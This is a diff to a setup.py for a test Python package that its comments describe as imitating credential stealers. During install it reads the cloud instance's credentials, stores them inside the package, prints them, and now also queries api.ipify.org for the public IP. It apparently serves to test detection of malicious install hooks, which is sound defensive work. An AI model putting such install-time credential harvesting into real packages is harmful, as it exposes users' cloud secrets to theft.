@@ -1,6 +1,7 @@
 # An sdist that reads the cloud instance's credentials during install
 # (setup.py, as real stealers do) and keeps them in the package, which
-# sends them home when imported, a later phase.
+# sends them home when imported, a later phase; both ask the machine's
+# public address, which must be the same one.
 import os
 import urllib.request
 
@@ -17,5 +18,10 @@ except Exception as e:
 with open(os.path.join(here, "imds", "kept.txt"), "w") as f:
     f.write(key)
 print("MOAT-IMDS install %s" % key.replace("\n", " ")[:400])
+try:
+    ip = urllib.request.urlopen("http://api.ipify.org/", timeout=10).read().decode()[:64]
+except Exception as e:
+    ip = "error: %r" % e
+print("MOAT-IP install %s." % ip)
 
 setup(name="imds", version="0.1", packages=["imds"], package_data={"imds": ["kept.txt"]})
